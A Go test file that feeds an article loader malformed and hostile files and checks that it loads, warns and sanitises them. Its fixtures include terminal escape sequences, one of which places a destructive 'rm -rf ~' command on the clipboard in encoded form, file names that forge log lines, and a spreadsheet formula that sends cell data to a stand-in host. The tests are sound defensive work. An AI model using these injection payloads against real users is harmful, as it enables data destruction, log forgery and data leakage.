package article

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
	"unicode/utf16"
)

// badFile is one file of the robustness table: what it holds, whether it
// must load, the reason its one warning must give ("" for no warning), and
// text that must appear in the loaded article.
type badFile struct {
	name    string
	data    []byte
	loads   bool
	warning string
	text    string
}

func utf16File(s string, bigEndian bool) []byte {
	var b []byte
	if bigEndian {
		b = []byte{0xFE, 0xFF}
	} else {
		b = []byte{0xFF, 0xFE}
	}
	for _, u := range utf16.Encode([]rune(s)) {
		if bigEndian {
			b = append(b, byte(u>>8), byte(u))
		} else {
			b = append(b, byte(u), byte(u>>8))
		}
	}
	return b
}

const loadProse = "Die Regierung hat am Montag ein neues Gesetz beschlossen. Es soll im Frühjahr in Kraft treten.\n"

func badFiles() []badFile {
	return []badFile{
		{name: "good.txt", data: []byte("date 2024-10\n\n" + loadProse), loads: true, text: "neues Gesetz"},
		{name: "escapes.txt", loads: true, text: "rot und grün",
			data: []byte("\x1b]0;pwned window title\x07\x1b]52;c;cm0gLXJmIH4=\x07Titel\n\n\x1b[31mrot\x1b[0m und \x1bP1$rpayload\x1b\\grün \u009b32mbunt. " + loadProse)},
		{name: "escapes.html", loads: true, text: "Klartext",
			data: []byte("<title>\x1b]0;pwned\x07Titel</title><p>&#27;[31mKlartext&#27;[0m \x1b[1mfett\x1b[0m &#x9b;31m. " + loadProse + "</p>")},
		{name: "escapes.md", loads: true, text: "Markdown",
			data: []byte("---\ntitle: \"\\e]0;pwned\\a Titel\"\n---\n# \x1b[2JMarkdown-Titel\n\n\x1b]52;c;AAAA\x07Markdown " + loadProse)},
		{name: "invalid-utf8.txt", data: []byte("Grüße \xff\xfe aus Köln. " + loadProse), loads: true, warning: "invalid UTF-8", text: "Grüße \uFFFD aus Köln"},
		{name: "latin1.txt", data: []byte("Gr\xfc\xdfe f\xfcr J\xfcrgen. " + loadProse[:20]), loads: true, warning: "Windows-1252", text: "Grüße für Jürgen"},
		{name: "utf16le.txt", data: utf16File("Grüße für alle. "+loadProse, false), loads: true, warning: "UTF-16", text: "Grüße für alle"},
		{name: "utf16be.md", data: utf16File("# Überschrift\n\n"+loadProse, true), loads: true, warning: "UTF-16", text: "neues Gesetz"},
		{name: "binary.txt", data: []byte("PK\x03\x04\x00\x00\x08\x00binary\x00data"), warning: "binary file"},
		{name: "mostly-controls.txt", data: bytes.Repeat([]byte("\x01\x02\x03a"), 100), warning: "binary file"},
		{name: "empty.txt", data: nil, warning: "empty file"},
		{name: "whitespace.md", data: []byte(" \n\t\r\n  \n"), warning: "empty file"},
		{name: "markup-only.html", data: []byte("<html><head><script>x()</script></head><body><nav><a href=/>Start</a></nav></body></html>"), warning: "no text"},
		{name: "one-line-5mb.txt", data: bytes.Repeat([]byte("Wort und Wort. "), 5<<20/15), loads: true, text: "Wort und Wort."},
		{name: "crlf.txt", data: []byte("Titel der Meldung\r\n\r\nErste Zeile\r\nzweite Zeile. " + loadProse), loads: true, text: "Erste Zeile zweite Zeile."},
		{name: "cr.txt", data: []byte("Titel der Meldung\r\rErste Zeile\rzweite Zeile. " + loadProse), loads: true, text: "Erste Zeile zweite Zeile."},
		{name: "bom.txt", data: append([]byte{0xEF, 0xBB, 0xBF}, "Titel mit BOM\n\n"+loadProse...), loads: true, text: "Titel mit BOM"},
		{name: "esc\x1b]0;pwned\x07name.txt", data: []byte(loadProse), loads: true, text: "neues Gesetz"},
		{name: "forged\nquellen: warning: row\r\tname.txt", data: []byte("Zeilen im Namen. " + loadProse), loads: true, text: "Zeilen im Namen"},
		{name: "formula.txt", data: []byte("title: =HYPERLINK(\"http://x.invalid/?\"&A1,\"klick\")\n\n" + loadProse), loads: true, text: "=HYPERLINK("},
		{name: "deep.html", loads: true, warning: "nested too deep", text: "Tief verschachtelt",
			data: []byte("<title>Tiefe Seite</title><body>" + strings.Repeat("<div>", 600) + "<p>Tief verschachtelt. " + loadProse + "</p>" + strings.Repeat("</div>", 600))},
		{name: "open-links.md", loads: true, warning: "plain text", data: []byte(strings.Repeat("[a](", 50_000))},
		{name: "nested-lists.md", loads: true, warning: "nested over", text: "tief", data: []byte(nestedList(40) + "\ntief " + loadProse)},
		{name: "sub/deeper/nested.md", data: []byte("# Tief\n\n" + loadProse), loads: true, text: "neues Gesetz"},
		{name: ".hidden/secret.txt", data: []byte(loadProse)},
		{name: ".dotfile.txt", data: []byte(loadProse)},
		{name: "notes.pdf", data: []byte("%PDF-1.4\x00")},
	}
}

// TestLoadBadInputs writes files that real folders contain (escape
// sequences, broken encodings, binaries, huge and unreadable files, link
// loops) and checks that every readable article loads, each bad file gets
// exactly one warning naming it and the reason, and no control character
// reaches any article field.
func TestLoadBadInputs(t *testing.T) {
	dir := t.TempDir()
	files := badFiles()
	for _, f := range files {
		p := filepath.Join(dir, filepath.FromSlash(f.name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, f.data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// Over the size limit: sparse, so the test writes nothing.
	huge := filepath.Join(dir, "huge.txt")
	if err := os.WriteFile(huge, []byte(loadProse), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(huge, MaxFileSize+1<<20); err != nil {
		t.Fatal(err)
	}
	files = append(files, badFile{name: "huge.txt", warning: "over the 32.0 MB limit"})

	// Unreadable: root reads it anyway, so only expect a warning otherwise.
	locked := filepath.Join(dir, "locked.txt")
	if err := os.WriteFile(locked, []byte(loadProse), 0o000); err != nil {
		t.Fatal(err)
	}
	if _, err := os.ReadFile(locked); err != nil {
		files = append(files, badFile{name: "locked.txt", warning: "permission denied"})
	} else {
		t.Log("running as root: locked.txt is readable, its warning is not checked")
		files = append(files, badFile{name: "locked.txt", loads: true, text: "neues Gesetz"})
	}

	// A dangling link, and two folders that link to each other.
	if err := os.Symlink(filepath.Join(dir, "nowhere.txt"), filepath.Join(dir, "dangling.txt")); err != nil {
		t.Fatal(err)
	}
	files = append(files, badFile{name: "dangling.txt", warning: "broken link"})
	for _, d := range []string{"loop/a", "loop/b"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(filepath.Join(dir, "loop/a/in-a.txt"), []byte("Schleife A. "+loadProse), 0o644)
	os.WriteFile(filepath.Join(dir, "loop/b/in-b.txt"), []byte("Schleife B. "+loadProse), 0o644)
	if err := os.Symlink("../b", filepath.Join(dir, "loop/a/to-b")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../a", filepath.Join(dir, "loop/b/to-a")); err != nil {
		t.Fatal(err)
	}

	arts, warns := LoadPaths([]string{dir})

	byID := map[string]*Article{}
	for _, a := range arts {
		byID[a.ID] = a
		checkClean(t, a)
	}
	warnsFor := func(name string) []Warning {
		var out []Warning
		for _, w := range warns {
			if strings.HasSuffix(w.Path, SanitizeName(name)) {
				out = append(out, w)
			}
		}
		return out
	}
	matched := 0
	for _, f := range files {
		id := SanitizeName(f.name)
		a := byID[id]
		switch {
		case f.loads && a == nil:
			t.Errorf("%q did not load", f.name)
		case !f.loads && a != nil:
			t.Errorf("%q loaded, but should be skipped", f.name)
		case a != nil && f.text != "" && !articleHas(a, f.text):
			t.Errorf("%q: no paragraph holds %q; have %q", f.name, f.text, texts(a))
		}
		ws := warnsFor(f.name)
		matched += len(ws)
		switch {
		case f.warning == "" && len(ws) > 0:
			t.Errorf("%q: unexpected warnings %v", f.name, ws)
		case f.warning != "" && len(ws) != 1:
			t.Errorf("%q: %d warnings %v, want one saying %q", f.name, len(ws), ws, f.warning)
		case f.warning != "" && !strings.Contains(ws[0].Reason, f.warning):
			t.Errorf("%q: warning %q, want one saying %q", f.name, ws[0].Reason, f.warning)
		}
	}
	// Files of other types are counted in one warning, not named.
	for _, w := range warns {
		if IsSkippedTypes(w) {
			matched++
			if !strings.HasPrefix(w.Reason, "skipped 1 .pdf file") {
				t.Errorf("other types: %q", w.Reason)
			}
		}
	}
	if matched != len(warns) {
		t.Errorf("%d warnings, %d expected: %v", len(warns), matched, warns)
	}
	// Each side of the loop is read exactly once.
	for _, marker := range []string{"Schleife A.", "Schleife B."} {
		n := 0
		for _, a := range arts {
			if articleHas(a, marker) {
				n++
			}
		}
		if n != 1 {
			t.Errorf("%q loaded %d times, want once", marker, n)
		}
	}
	for _, a := range arts {
		if strings.Contains(a.Title+a.Paragraphs[0].Text, "pwned") || strings.Contains(a.ID, "pwned") {
			t.Errorf("%q: an escape sequence's payload survived: title %q", a.ID, a.Title)
		}
	}
}

// TestLoadFSBadInputs runs the same files through LoadFS, the path the
// embedded seeds and the benchmarks take.
func TestLoadFSBadInputs(t *testing.T) {
	fsys := fstest.MapFS{}
	for _, f := range badFiles() {
		fsys[f.name] = &fstest.MapFile{Data: f.data}
	}
	arts, warns := LoadFS(fsys)
	for _, a := range arts {
		checkClean(t, a)
	}
	loaded := map[string]bool{}
	for _, a := range arts {
		loaded[a.ID] = true
	}
	for _, f := range badFiles() {
		if loaded[SanitizeName(f.name)] != f.loads {
			t.Errorf("%q: loaded %v, want %v", f.name, loaded[SanitizeName(f.name)], f.loads)
		}
		n := 0
		for _, w := range warns {
			if w.Path == SanitizeName(f.name) {
				n++
			}
		}
		if want := map[bool]int{true: 1, false: 0}[f.warning != ""]; n != want {
			t.Errorf("%q: %d warnings, want %d (%v)", f.name, n, want, warns)
		}
	}
}

func articleHas(a *Article, s string) bool {
	for _, p := range a.Paragraphs {
		if strings.Contains(p.Text, s) {
			return true
		}
	}
	return strings.Contains(a.Title, s)
}

// checkClean fails the test when any field of a holds a control character
// or a paragraph is malformed (empty, a newline inside, sentence spans
// outside the text).
func checkClean(t testing.TB, a *Article) {
	t.Helper()
	for field, v := range map[string]string{"id": a.ID, "title": a.Title, "date": a.Date, "source": a.Source, "url": a.URL, "lang": a.Lang} {
		if d := dirty(v); d != "" {
			t.Errorf("%q: %s %q: %s", a.ID, field, v, d)
		}
	}
	if strings.ContainsAny(a.ID, "\n\r\t") {
		t.Errorf("ID %q spans lines or has tabs", a.ID)
	}
	if strings.ContainsAny(a.Title, "\n\t") {
		t.Errorf("%q: title %q spans lines", a.ID, a.Title)
	}
	for i, p := range a.Paragraphs {
		if d := dirty(p.Text); d != "" {
			t.Errorf("%q: paragraph %d %q: %s", a.ID, i, p.Text, d)
		}
		if p.Text == "" || strings.Contains(p.Text, "\n") {
			t.Errorf("%q: paragraph %d %q is empty or spans lines", a.ID, i, p.Text)
		}
		if p.Index != i {
			t.Errorf("%q: paragraph %d has index %d", a.ID, i, p.Index)
		}
		prev := 0
		for _, s := range p.Sentences {
			if s.Start < prev || s.Start >= s.End || s.End > len(p.Text) {
				t.Errorf("%q: paragraph %d: sentence %v outside [%d, %d]", a.ID, i, s, prev, len(p.Text))
			}
			prev = s.End
		}
	}
}

func FuzzParse(f *testing.F) {
	for _, f0 := range badFiles() {
		f.Add(f0.data[:min(len(f0.data), 4096)])
	}
	entries, _ := os.ReadDir("testdata/pages")
	for _, e := range entries {
		if data, err := os.ReadFile(filepath.Join("testdata/pages", e.Name())); err == nil {
			f.Add(data)
		}
	}
	f.Add([]byte("<article><article><p>a</p></article></article><p>b<br><br>c</p>"))
	f.Add([]byte("---\ntitle: x\n---\n# T\n\n> q\n\n- [a](b)\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, id := range []string{"f.txt", "f.md", "f.html"} {
			a, notes, err := Parse(id, data)
			for _, n := range notes {
				if d := dirty(n); d != "" {
					t.Errorf("%s: note %q: %s", id, n, d)
				}
			}
			if err != nil {
				if a != nil {
					t.Errorf("%s: article returned with error %v", id, err)
				}
				continue
			}
			if len(a.Paragraphs) == 0 {
				t.Errorf("%s: article without paragraphs", id)
			}
			checkClean(t, a)
		}
	})
}
